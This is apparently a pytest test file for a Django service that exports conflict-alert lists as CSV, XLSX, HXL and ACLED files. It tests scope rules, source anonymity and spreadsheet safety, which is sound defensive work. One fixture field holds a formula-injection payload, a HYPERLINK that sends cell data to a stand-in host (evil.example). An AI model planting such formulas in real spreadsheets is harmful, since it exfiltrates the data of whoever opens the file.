"""Exports of the alert list: exactly the rows listed, never a source's identity, every cell safe
in a spreadsheet, built by a task in the requester's scope, the page and the API alike."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from alerts.models import Alert, Urgency
from clas.models import User
from exchange import services
from exchange.models import Export
from tests.alerts.support import api_client, log
from tests.conftest import Mission

pytestmark = pytest.mark.django_db

Capture = Callable[..., Any]


def export(user: User, format: str = "csv", **filters: str) -> Export:
    made = services.export_request(user=user, format=format, params=filters, language="en")
    services.export_build(export_id=made.pk)
    made.refresh_from_db()
    assert made.status == Export.Status.DONE
    return made


def csv_rows(made: Export) -> list[list[str]]:
    with services.export_path(made).open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def references(rows: list[list[str]], *, skip: int = 1) -> set[str]:
    return {row[0] for row in rows[skip:]}


@pytest.fixture
def alerts(mission: Mission) -> dict[str, Alert]:
    return {
        "immediate": log(
            mission,
            urgency=Urgency.IMMEDIATE,
            source_type=Alert.SourceType.LOCAL_AUTHORITY,
            source_name="Marie Ndakala",
            source_contact="+236 75 12 34 56",
            place='=HYPERLINK("http://evil.example/?d="&A2,"x")',
            victims_killed=2,
        ),
        "expected": log(mission, urgency=Urgency.EXPECTED, place="Gbadé"),
        "sector_b": log(mission, mission.cla_b, location_id=mission.base_b.pk),
    }


def test_the_csv_holds_exactly_the_filtered_rows(mission: Mission, alerts) -> None:
    rows = csv_rows(export(mission.hq, urgency="Immediate"))

    assert rows[0][:3] == ["Reference", "Reported at", "Occurred at"]
    assert references(rows) == {alerts["immediate"].reference}
    assert references(csv_rows(export(mission.hq))) == {a.reference for a in alerts.values()}


def test_nothing_identifies_the_source_in_any_format(mission: Mission, alerts) -> None:
    for format in ("csv", "hxl", "acled"):
        text = services.export_path(export(mission.hq, format)).read_text(encoding="utf-8-sig")
        for secret in ("Marie", "Ndakala", "75 12 34 56", "+236"):
            assert secret not in text, (format, secret)
    workbook = load_workbook(services.export_path(export(mission.hq, "xlsx")), read_only=True)
    cells = [str(c) for row in workbook.active.iter_rows(values_only=True) for c in row]
    assert not any("Ndakala" in c or "75 12 34 56" in c for c in cells)


def test_every_cell_is_safe_in_a_spreadsheet(mission: Mission, alerts) -> None:
    rows = csv_rows(export(mission.hq, urgency="Immediate"))
    place = rows[0].index("Place or village")
    assert rows[1][place].startswith("'=HYPERLINK")

    workbook = load_workbook(services.export_path(export(mission.hq, "xlsx", urgency="Immediate")))
    sheet = workbook.active
    cell = sheet.cell(row=2, column=place + 1)
    assert cell.data_type == "s"
    assert cell.value.startswith("'=HYPERLINK")


def test_the_xlsx_has_a_header_real_dates_and_numbers(mission: Mission, alerts) -> None:
    sheet = load_workbook(services.export_path(export(mission.hq, "xlsx"))).active
    header = [c.value for c in sheet[1]]
    row = {header[i]: c.value for i, c in enumerate(sheet[2])}

    assert sheet.max_row == 4
    assert isinstance(row["Reported at"], dt.datetime)
    assert isinstance(row["Killed"], int)


def test_the_hxl_csv_has_its_hashtag_row(mission: Mission, alerts) -> None:
    rows = csv_rows(export(mission.hq, "hxl"))

    tags = rows[1]
    for tag in ("#event+id", "#date+occurred", "#adm1+name", "#loc+name", "#geo+lat"):
        assert tag in tags
    assert "#affected+killed" in tags
    assert references(rows, skip=2) == {a.reference for a in alerts.values()}


def test_the_acled_csv_maps_the_category_and_names_the_country(mission: Mission, alerts) -> None:
    category = alerts["immediate"].category
    category.acled_event_type = "Violence against civilians"
    category.save()

    rows = csv_rows(export(mission.hq, "acled", urgency="Immediate"))
    row = dict(zip(rows[0], rows[1], strict=True))

    assert row["event_id_cnty"] == alerts["immediate"].reference
    assert row["event_type"] == "Violence against civilians"
    assert row["country"] == "Central African Republic"
    assert row["iso"] == "140"
    assert row["fatalities"] == "2"
    assert row["geo_precision"] == "2"  # no coordinates: the location's


def test_headings_and_labels_in_the_requesters_language(mission: Mission, alerts) -> None:
    made = services.export_request(user=mission.hq, format="csv", params={}, language="fr")
    services.export_build(export_id=made.pk)
    made.refresh_from_db()

    rows = csv_rows(made)
    assert rows[0][0] == "Référence"
    assert "Immédiate" in rows[1] + rows[2] + rows[3]


# --- scope and rights ---------------------------------------------------------------------


@pytest.mark.parametrize("role", ["coordinator", "force"])
def test_an_export_keeps_the_requesters_scope(mission: Mission, alerts, role: str) -> None:
    rows = csv_rows(export(mission.user(role)))

    assert alerts["sector_b"].reference not in references(rows)
    assert alerts["immediate"].reference in references(rows)


def test_a_filter_outside_the_scope_is_refused_naming_it(mission: Mission) -> None:
    with pytest.raises(ValidationError) as caught:
        services.export_request(
            user=mission.force,
            format="csv",
            params={"sector": str(mission.sector_b.pk)},
            language="en",
        )
    assert "sector" in caught.value.message_dict


def test_the_scope_is_applied_again_when_built(mission: Mission, alerts) -> None:
    made = services.export_request(user=mission.coordinator, format="csv", params={}, language="en")
    mission.coordinator.is_active = False
    mission.coordinator.save()

    services.export_build(export_id=made.pk)

    made.refresh_from_db()
    assert made.status == Export.Status.DONE
    assert csv_rows(made) == [csv_rows(made)[0]]  # the header alone


def test_a_cla_may_not_export(mission: Mission, client: Client) -> None:
    client.force_login(mission.cla)

    assert client.get(reverse("exchange:export_create")).status_code == 403
    response = api_client(mission.cla).post("/api/v1/exports/", {"format": "csv"}, format="json")
    assert response.status_code == 403
    assert not Export.objects.exists()


def test_a_build_runs_once(mission: Mission, alerts) -> None:
    made = services.export_request(user=mission.hq, format="csv", params={}, language="en")

    assert services.export_build(export_id=made.pk) == {"rows": 3}
    assert services.export_build(export_id=made.pk) == {"skipped": 1}


def test_too_many_open_exports_are_refused(mission: Mission) -> None:
    for _ in range(services.MAX_OPEN_EXPORTS):
        services.export_request(user=mission.hq, format="csv", params={}, language="en")

    response = api_client(mission.hq).post("/api/v1/exports/", {"format": "csv"}, format="json")

    assert response.status_code == 429
    assert Export.objects.count() == services.MAX_OPEN_EXPORTS


# --- the pages ----------------------------------------------------------------------------


def test_the_alert_list_offers_the_export_with_its_filters(
    mission: Mission, client: Client
) -> None:
    client.force_login(mission.coordinator)
    page = client.get(reverse("alerts:alert_list"), {"urgency": "Immediate", "page": "1"})

    assert f'{reverse("exchange:export_create")}?urgency=Immediate"' in page.content.decode()

    client.force_login(mission.cla)
    page = client.get(reverse("alerts:alert_list"))
    assert reverse("exchange:export_create") not in page.content.decode()


def test_a_coordinator_exports_from_the_page_and_downloads(
    mission: Mission, alerts, client: Client, django_capture_on_commit_callbacks: Capture
) -> None:
    client.force_login(mission.coordinator)
    url = reverse("exchange:export_create")

    form = client.get(url, {"urgency": "Immediate"})
    assert form.status_code == 200
    assert "1 alert matches." in form.content.decode()
    assert "Urgency: Immediate" in form.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"urgency": "Immediate", "format": "csv"})

    made = Export.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("exchange:export_detail", args=[made.token])
    detail = client.get(response["Location"]).content.decode()
    assert "Ready" in detail
    download = client.get(reverse("exchange:export_download", args=[made.token]))
    assert download.status_code == 200
    body = b"".join(download.streaming_content).decode("utf-8-sig")
    assert references(list(csv.reader(io.StringIO(body)))) == {alerts["immediate"].reference}
    assert "attachment" in download["Content-Disposition"]


def test_a_bad_filter_or_format_on_the_page_says_which(mission: Mission, client: Client) -> None:
    client.force_login(mission.hq)
    url = reverse("exchange:export_create")

    bad_filter = client.post(url, {"reported_after": "last week", "format": "csv"})
    bad_format = client.post(url, {"format": "pdf"})

    assert bad_filter.status_code == 400
    assert "Reported on or after" in bad_filter.content.decode()
    assert bad_format.status_code == 400
    assert "Format" in bad_format.content.decode()
    assert not Export.objects.exists()


def test_someone_elses_export_is_a_404(mission: Mission, alerts, client: Client) -> None:
    made = export(mission.hq)
    client.force_login(mission.admin)

    for name in ("exchange:export_detail", "exchange:export_download"):
        assert client.get(reverse(name, args=[made.token])).status_code == 404
    assert api_client(mission.admin).get(f"/api/v1/exports/{made.token}/").status_code == 404


# --- the API ------------------------------------------------------------------------------


def test_the_api_asks_follows_and_downloads(
    mission: Mission, alerts, django_capture_on_commit_callbacks: Capture
) -> None:
    api = api_client(mission.force)

    with django_capture_on_commit_callbacks(execute=True):
        asked = api.post(
            "/api/v1/exports/",
            {"format": "hxl", "filters": {"urgency": "Immediate"}},
            format="json",
        )

    assert asked.status_code == 202, asked.content
    token = asked.json()["id"]
    followed = api.get(f"/api/v1/exports/{token}/").json()
    assert followed["status"] == "done"
    assert followed["rows_done"] == 1
    assert followed["download_url"].endswith(f"/api/v1/exports/{token}/download/")
    download = api.get(f"/api/v1/exports/{token}/download/")
    assert download.status_code == 200
    assert [e["id"] for e in api.get("/api/v1/exports/").json()["results"]] == [token]


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"format": "pdf"}, "format"),
        ({}, "format"),
        ({"format": "csv", "filters": {"reported_after": "soon"}}, "filters"),
        ({"format": "csv", "filters": {"urgency": "Whenever"}}, "filters"),
        ({"format": "csv", "filters": "urgency=Immediate"}, "filters"),
    ],
)
def test_bad_input_is_a_400_naming_the_field(mission: Mission, body: dict, field: str) -> None:
    response = api_client(mission.hq).post("/api/v1/exports/", body, format="json")

    assert response.status_code == 400
    assert field in response.json()
    assert not Export.objects.exists()


def test_an_unknown_or_malformed_id_is_a_404(mission: Mission) -> None:
    api = api_client(mission.hq)

    for token in ("00000000-0000-0000-0000-000000000000", "abc", "1" * 36):
        assert api.get(f"/api/v1/exports/{token}/").status_code == 404


# --- the sweep ----------------------------------------------------------------------------


def test_the_sweep_deletes_expired_exports_and_their_files(mission: Mission, alerts) -> None:
    made = export(mission.hq)
    path = services.export_path(made)
    Export.objects.filter(pk=made.pk).update(created_at=timezone.now() - dt.timedelta(days=8))

    assert services.exports_sweep()["deleted"] == 1
    assert not path.exists()
    assert not Export.objects.exists()


def test_the_sweep_retries_a_build_that_died_and_queues_a_lost_one(
    mission: Mission, alerts, django_capture_on_commit_callbacks: Capture
) -> None:
    died = services.export_request(user=mission.hq, format="csv", params={}, language="en")
    Export.objects.filter(pk=died.pk).update(
        status=Export.Status.RUNNING,
        started_at=timezone.now() - dt.timedelta(hours=1),
        attempts=1,
        created_at=timezone.now() - dt.timedelta(hours=1),
    )

    summary = services.exports_sweep()

    died.refresh_from_db()
    assert summary["retried"] == 1
    assert summary["queued"] == 1
    assert died.status == Export.Status.DONE  # queued again, built in-process here
